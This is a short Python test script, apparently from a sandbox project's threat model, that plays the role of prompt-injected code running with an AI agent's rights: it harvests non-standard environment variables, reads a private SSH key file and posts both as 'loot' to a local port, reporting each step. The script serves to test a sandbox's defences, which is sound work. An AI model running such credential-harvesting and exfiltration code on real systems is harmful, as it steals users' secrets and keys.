"""The attack of cbox's threat model: what prompt-injected code does with an agent's rights.

usage: attack.py KEYFILE PORT
(1) collect the environment, (2) read a private SSH key, (3) POST both to 127.0.0.1:PORT.
Prints one line per step saying what it got; exits 0 whatever happened (the caller judges).
"""
import json
import os
import socket
import sys

keyfile, port = sys.argv[1], int(sys.argv[2])
ordinary = {"PATH", "HOME", "TERM", "LANG", "PWD", "SHLVL", "_", "OLDPWD"}
loot = {}

env = {k: v for k, v in os.environ.items() if k not in ordinary}
if env:
    loot["env"] = env
    print("step 1 (environment): took %d variables: %s" % (len(env), ", ".join(sorted(env))))
else:
    print("step 1 (environment): nothing to take, only %s" % ", ".join(sorted(os.environ)))

try:
    with open(keyfile) as f:
        loot["key"] = f.read()
    print("step 2 (private key): read %s (%d bytes)" % (keyfile, len(loot["key"])))
except OSError as e:
    print("step 2 (private key): cannot read %s: %s" % (keyfile, e.strerror))

body = json.dumps(loot).encode()
try:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"POST /loot HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    print("step 3 (exfiltration): sent %d bytes to 127.0.0.1:%d" % (len(body), port))
except OSError as e:
    print("step 3 (exfiltration): cannot reach 127.0.0.1:%d: %s" % (port, e.strerror or e))
